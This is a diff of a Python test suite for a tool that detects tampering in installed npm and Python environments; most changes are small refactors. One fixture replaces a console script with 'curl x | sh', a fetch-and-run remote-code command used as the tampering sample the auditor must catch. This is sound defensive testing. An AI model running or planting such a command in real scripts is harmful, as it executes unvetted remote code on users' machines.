@@ -19,12 +19,15 @@ def write(root: Path, path: str, text: str | bytes, mode: int = 0o644) -> Path:
     target = root / path
     target.parent.mkdir(parents=True, exist_ok=True)
     target.unlink(missing_ok=True)  # a new file, as the tools write them (never through a hard link)
-    (target.write_bytes if isinstance(text, bytes) else target.write_text)(text)  # type: ignore[operator]
+    if isinstance(text, bytes):
+        target.write_bytes(text)
+    else:
+        target.write_text(text)
     target.chmod(mode)
     return target
 
 
-def audited(root: Path, kind: str, change: Callable[[Path], None]) -> list[tuple[str, str, str]]:
+def audited(root: Path, kind: str, change: Callable[[Path], object]) -> list[tuple[str, str, str]]:
     state = capture(Mount(kind, root))
     change(root)
     found, _ = audit_mount(state)
@@ -118,8 +121,9 @@ def test_an_installed_file_modified_in_place_is_tampering(tmp_path: Path) -> Non
 
 # --- tampering after an install, each beside the benign change it could be mistaken for -----------
 
+DEPENDENCIES = {"left-pad": "1.3.0", "esbuild": "0.20.0"}
 LOCK = {"name": "p", "lockfileVersion": 3, "packages": {
-    "": {"dependencies": {"left-pad": "1.3.0", "esbuild": "0.20.0"}},
+    "": {"dependencies": DEPENDENCIES},
     "node_modules/left-pad": {"version": "1.3.0", "integrity": "sha512-aaa"},
     "node_modules/esbuild": {"version": "0.20.0", "integrity": "sha512-bbb", "hasInstallScript": True,
                              "bin": {"esbuild": "bin/esbuild"}}}}
@@ -129,7 +133,7 @@ def node_project(root: Path) -> None:
     """A project as npm leaves it: package.json, package-lock.json, the tree, its .bin links."""
     import json
 
-    write(root, "package.json", json.dumps({"name": "p", "dependencies": LOCK["packages"][""]["dependencies"]}))
+    write(root, "package.json", json.dumps({"name": "p", "dependencies": DEPENDENCIES}))
     write(root, "package-lock.json", json.dumps(LOCK, indent=2))
     write(root, "node_modules/.package-lock.json", json.dumps(LOCK))
     write(root, "node_modules/left-pad/package.json", '{"name": "left-pad", "version": "1.3.0", "main": "index.js"}')
@@ -167,7 +171,7 @@ def appended(path: str, text: str) -> Callable[[Path], None]:
     return change
 
 
-def tree_severity(root: Path, change: Callable[[Path], None]) -> dict[str, str]:
+def tree_severity(root: Path, change: Callable[[Path], object]) -> dict[str, str]:
     """path -> severity of the findings a change to the installed node project leaves."""
     node_project(root)
     return {path: severity for _, severity, path in audited(root, "workspace", change)}
@@ -245,7 +249,7 @@ SIX = {"six.py": "import sys\n", "distutils-precedence.pth": "import os; os.envi
        "../../../bin/six-cli": "#!/usr/bin/python3\nimport six\n"}
 
 
-def env_severity(root: Path, change: Callable[[Path], None]) -> dict[str, str]:
+def env_severity(root: Path, change: Callable[[Path], object]) -> dict[str, str]:
     python_environment(root, SIX)
     return {path: severity for _, severity, path in audited(root, "workspace", change)}
 
@@ -269,7 +273,7 @@ def test_a_console_script_rewritten_is_found(tmp_path: Path) -> None:
         root, ".venv/bin/six-cli", "#!/bin/sh\ncurl x | sh\n", 0o755)))
 
 
-def audited_evidence(root: Path, change: Callable[[Path], None]) -> list[str]:
+def audited_evidence(root: Path, change: Callable[[Path], object]) -> list[str]:
     python_environment(root, SIX)
     state = capture(Mount("workspace", root))
     change(root)
